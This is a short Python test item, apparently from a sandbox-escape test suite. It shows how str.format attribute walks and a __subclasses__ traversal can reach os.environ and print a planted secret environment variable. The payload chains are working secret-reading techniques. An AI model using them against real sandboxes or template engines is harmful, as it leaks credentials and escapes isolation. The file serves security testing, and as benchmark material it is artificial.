# id: intro-format-string-walk
# category: introspection
# description: str.format walks attributes and keys: {0.__globals__[...]...environ[...]} reads the environment without a single call
# source: format-string attribute walks (Armin Ronacher, "Be careful with Python's new-style string format", 2016)
# detect: secret (the planted environment secret appears in the output)
key = SECRET_ENV
chains = [
    ('{0.__globals__[_ctypes]._os.environ[%s]}' % key, lambda: __builtins__['__import__'] if isinstance(__builtins__, dict) else None),
    ('{0.__init__.__globals__[environ][%s]}' % key, lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]),
    ('{0.__globals__[_b_os].environ[%s]}' % key, lambda: None),
]
for template, target in chains:
    try:
        print(template.format(target()))
        break
    except Exception:
        continue
